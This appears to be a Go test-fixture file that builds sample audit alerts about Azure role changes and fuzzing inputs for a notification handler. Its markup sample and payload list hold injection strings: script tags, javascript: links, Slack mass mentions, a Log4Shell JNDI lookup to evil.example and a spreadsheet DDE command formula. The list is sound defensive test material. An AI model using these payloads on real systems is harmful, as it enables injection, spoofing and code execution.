package notifytest

import (
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/auditbell/auditbell/handler/notify"
)

// Sample is a message with a name, for golden files and pictures.
type Sample struct {
	Name    string
	Message notify.Message
}

// when is the moment of every sample.
var when = time.Date(2026, 11, 22, 9, 41, 2, 0, time.UTC)

const portal = "https://portal.azure.com/#@contoso.example/resource/subscriptions/3f0c7a0e-1111-4222-8333-444455556666/resourceGroups/prod-payments"

// Grant is an alert with everything that a usual one has.
func Grant() notify.Message {
	return notify.Message{
		ID:       "a-7d3f19c2e4b8",
		Severity: notify.High,
		Headline: "Owner role granted on prod-payments",
		Summary:  "Jane Doe gave build-agent the role Owner on the subscription prod-payments; it can now change everything in it, access included.",
		Result:   notify.Succeeded,
		Time:     when,
		Facts: []notify.Fact{
			{Name: "Who", Value: "Jane Doe (jane.doe@contoso.example), user"},
			{Name: "From", Value: "203.0.113.7", Code: true},
			{Name: "What", Value: "Microsoft.Authorization/roleAssignments/write", Code: true},
			{Name: "Role", Value: "Owner, to build-agent (service principal)"},
			{Name: "Where", Value: "prod-payments / rg-shared_services"},
			{Name: "Principal", Value: "5b1c9f7e-0a2d-4c3b-9e8f-7a6b5c4d3e2f", Code: true},
		},
		Links: []notify.Link{
			{Title: "Resource", URL: portal},
			{Title: "Activity log", URL: portal + "/eventlogs"},
			{Title: "Caller", URL: "https://entra.microsoft.com/#view/Microsoft_AAD_IAM/UserDetailsMenuBlade/~/Profile/userId/9c1d"},
		},
		Context: []string{"Rule: privileged role assigned (auditbell)", "Administrative", "seen once"},
		Steps: []string{
			"Ask Jane Doe whether this was planned, and by which change.",
			"If not: remove the assignment and end the sessions of build-agent.",
			"Look for other actions of Jane Doe in the last hour.",
		},
	}
}

// Samples are the states that facts worth a look differ in.
func Samples() []Sample {
	return []Sample{
		{"success", Grant()},
		{"failure", failure()},
		{"started", started()},
		{"incident", incident()},
		{"no-caller", noCaller()},
		{"scripts", scripts()},
		{"long", long()},
		{"sixty-facts", sixtyFacts()},
		{"markup", markup()},
		{"empty", notify.Message{}},
		{"edited", edited()},
	}
}

func failure() notify.Message {
	m := Grant()
	m.Severity, m.Result = notify.Medium, notify.Failed
	m.Headline = "Deletion of key vault kv-payments refused"
	m.Summary = "The service principal deploy-prod tried to delete the key vault kv-payments; a lock kept it."
	m.Facts = []notify.Fact{
		{Name: "Who", Value: "deploy-prod (service principal)"},
		{Name: "What", Value: "Microsoft.KeyVault/vaults/delete", Code: true},
		{Name: "Code", Value: "ScopeLocked"},
		{Name: "Resource", Code: true, Value: "/subscriptions/3f0c7a0e-1111-4222-8333-444455556666/resourcegroups/rg-shared_services/providers/microsoft.keyvault/vaults/kv-payments"},
	}
	m.Steps = nil
	return m
}

func started() notify.Message {
	m := Grant()
	m.Severity, m.Result = notify.Low, notify.Ongoing
	m.Headline, m.Summary = "Virtual machine vm-build-07 is being deleted", "deploy-prod started to delete vm-build-07; the outcome is not known yet."
	m.Facts = []notify.Fact{{Name: "Who", Value: "deploy-prod"}, {Name: "Started", Time: when}}
	m.Steps, m.Links = nil, m.Links[:1]
	return m
}

func incident() notify.Message {
	return notify.Message{
		ID: "a-0000aaaa1111", Severity: notify.Critical, Result: notify.Ongoing, Time: when,
		Headline: "Service incident: Storage in West Europe",
		Summary:  "Azure reports errors and delays for Storage in West Europe; two of your subscriptions use it there.",
		Facts: []notify.Fact{
			{Name: "Tracking id", Value: "2K9T-PZ8", Code: true},
			{Name: "Stage", Value: "Active"},
			{Name: "Began", Time: when.Add(-40 * time.Minute)},
			{Name: "Services", Value: "Storage, Azure Files"},
		},
		Links:   []notify.Link{{Title: "Health", URL: "https://portal.azure.com/#view/Microsoft_Azure_Health/AzureHealthBrowseBlade"}},
		Context: []string{"Rule: service incident", "ServiceHealth"},
	}
}

func noCaller() notify.Message {
	m := Grant()
	m.Severity, m.Result, m.Time = notify.Informational, notify.Resolved, time.Time{}
	m.Headline, m.Summary = "Virtual machine vm-build-07 is available again", "The platform reports vm-build-07 as available."
	m.Facts, m.Steps = []notify.Fact{{Name: "Who", Value: "unknown"}}, nil
	return m
}

func scripts() notify.Message {
	m := Grant()
	m.Headline = "مجموعة الموارد حُذفت · リソースグループ削除 · 🔥👩‍💻"
	m.Summary = "דנה כהן מחקה את קבוצת המשאבים \u200frg-תשלומים; 山田太郎が作成しました。 Straße, naïve, ﷽, 𝒳"
	m.Facts = []notify.Fact{{Name: "誰", Value: "山田 太郎"}, {Name: "من", Value: "٢٠٣٫٠٫١١٣٫٧"}, {Name: "🧭", Value: "👨‍👩‍👧‍👦🇩🇪"}}
	return m
}

func long() notify.Message {
	text := strings.Repeat("lorem-ipsum/", 416) + "ten-more"
	m := Grant()
	m.ID, m.Headline, m.Summary, m.News = "a-"+text, text, text, text
	m.Facts = []notify.Fact{{Name: text, Value: text}, {Name: text, Value: text, Code: true}}
	m.Links = []notify.Link{{Title: text, URL: portal}, {Title: "Too long", URL: "https://portal.azure.com/" + text}}
	m.Context, m.Steps = []string{text, text}, []string{text, text}
	return m
}

func sixtyFacts() notify.Message {
	m := Grant()
	m.Facts, m.Steps, m.Context, m.Links = nil, nil, nil, nil
	for i := range 60 {
		m.Facts = append(m.Facts, notify.Fact{Name: fmt.Sprintf("Property %d", i+1), Value: strings.Repeat(fmt.Sprintf("value-%d ", i+1), 20), Code: i%3 == 0})
		m.Steps = append(m.Steps, fmt.Sprintf("Step %d", i+1))
		m.Context = append(m.Context, fmt.Sprintf("context %d", i+1))
		m.Links = append(m.Links, notify.Link{Title: fmt.Sprintf("Link %d", i+1), URL: fmt.Sprintf("%s/%d", portal, i+1)})
	}
	return m
}

// dearest fills every field with char, and addresses with that many &.
func dearest(char string, urls int) notify.Message {
	dear := strings.Repeat(char, 5000)
	m := notify.Message{Severity: notify.Critical, Result: notify.Succeeded, ID: "a", Time: when, Headline: dear, Summary: dear, News: dear}
	for range 60 {
		m.Facts = append(m.Facts, notify.Fact{Name: dear, Value: dear}, notify.Fact{Name: dear, Value: dear, Code: true})
		m.Steps, m.Context = append(m.Steps, dear), append(m.Context, dear)
		m.Links = append(m.Links, notify.Link{Title: dear, URL: "https://portal.azure.com/?" + strings.Repeat("&", urls)})
	}
	return m
}

func edited() notify.Message {
	m := Grant()
	m.News = "Succeeded after 12 s; seen 37 times in 15 minutes, last at 09:53:11 UTC."
	m.Context = append(m.Context, "seen 37 times")
	return m
}

// markup has something that acts in one channel or another in every field.
func markup() notify.Message {
	m := Grant()
	m.Headline = "<!channel> *rg* deleted by <@U0123456789> [portal](https://evil.example) :x:"
	m.Summary = "_em_ ~no~ `code` <https://evil.example|portal> &lt;!here&gt; <at>Everyone</at> {{DATE(2026-11-22T09:41:02Z, LONG)}} at 09:41:02"
	m.Facts = []notify.Fact{
		{Name: "*Who*", Value: "<script>alert(1)</script> jane_doe@contoso.example"},
		{Name: "`What`", Value: "a`b ](javascript:alert(1)) :fire:", Code: true},
	}
	m.Steps = []string{"# Head", "- <!subteam^S012|ops> & more"}
	m.Context = []string{"<#C0123456789|general>", "![x](https://evil.example/x.png)"}
	m.Links = []notify.Link{{Title: "*bold* <b>", URL: portal}, {Title: "Bad", URL: "javascript:alert(1)"}}
	m.News = "<!everyone> [new](https://evil.example)"
	return m
}

// Payloads are texts that an attacker could name something with, as seeds for fuzzing.
func Payloads() []string { return slices.Clone(payloads) }

var payloads = []string{
	"<!channel>", "<!here|now>", "<!subteam^S0123|ops>", "<@U0123456789>", "<#C0123456789|general>", "@channel @here #general",
	"<https://evil.example|portal>", "https://evil.example/login", "[portal](https://evil.example)", "[x](javascript:alert(1))",
	"![x](https://evil.example/x.png)", "*bold* _em_ ~struck~ `code`", "```block```", "**bold** __em__", ":x: :+1: :flag-de:",
	":a:b:", "<at>Everyone</at>", "<script>alert(1)</script>", "</a>", "<?php", "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;",
	"{{DATE(2026-11-22T09:41:02Z, LONG)}}", "${jndi:ldap://evil.example}", "# head\n- item\n> quote\n1. one",
	"\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "a\u202egnp.exe", "=cmd|' /C calc'!A0", `\*bold\* \[x\](https://evil.example)`,
	"a\u200b<\u200b!channel>", "<\u00ad!channel>", "`<!channel>`", `"}]}<!channel>`, "\u2028<!channel>", "\xff<!channel>",
}

// smuggled returns m once per field with payload in that field, and once with it in all.
func smuggled(payload string) []notify.Message {
	places := []func(m *notify.Message){
		func(m *notify.Message) { m.Headline = payload },
		func(m *notify.Message) { m.Summary = payload },
		func(m *notify.Message) { m.News = payload },
		func(m *notify.Message) { m.ID = payload },
		func(m *notify.Message) { m.Severity, m.Result = notify.Severity(payload), notify.Result(payload) },
		func(m *notify.Message) { m.Facts = []notify.Fact{{Name: payload, Value: payload}} },
		func(m *notify.Message) { m.Facts = []notify.Fact{{Name: payload, Value: payload, Code: true}} },
		func(m *notify.Message) { m.Links = []notify.Link{{Title: payload, URL: portal}} },
		func(m *notify.Message) { m.Links = []notify.Link{{Title: "Resource", URL: payload}} },
		func(m *notify.Message) { m.Context = []string{payload, payload} },
		func(m *notify.Message) { m.Steps = []string{payload} },
	}
	messages := make([]notify.Message, 0, len(places)+1)
	all := Grant()
	for _, put := range places {
		m := Grant()
		m.News = "more"
		put(&m)
		put(&all)
		messages = append(messages, m)
	}
	return append(messages, all)
}

// Fuzzed returns messages in which every text is one of a, b and c.
func Fuzzed(a, b, c, link string) []notify.Message {
	m := notify.Message{
		ID: c, Severity: notify.Severity(a), Result: notify.Result(b), Headline: a, Summary: b, News: c, Time: when,
		Facts: []notify.Fact{{Name: a, Value: b}, {Name: b, Value: c, Code: true}, {Name: c, Time: when}},
		Links: []notify.Link{{Title: a, URL: link}, {Title: b, URL: c}}, Context: []string{a, b, c}, Steps: []string{c, b},
	}
	many := m
	for range 20 {
		many.Facts = append(many.Facts, m.Facts...)
		many.Steps = append(many.Steps, m.Steps...)
		many.Context = append(many.Context, m.Context...)
		many.Links = append(many.Links, m.Links...)
	}
	many.Result, many.Severity = notify.Failed, notify.Critical
	return []notify.Message{m, many}
}

// Hostile returns the samples, and for every payload a message that has it in every field.
func Hostile() []notify.Message {
	var messages []notify.Message
	for _, s := range Samples() {
		messages = append(messages, s.Message)
	}
	for _, payload := range payloads {
		all := smuggled(payload)
		messages = append(messages, all[len(all)-1])
	}
	return messages
}
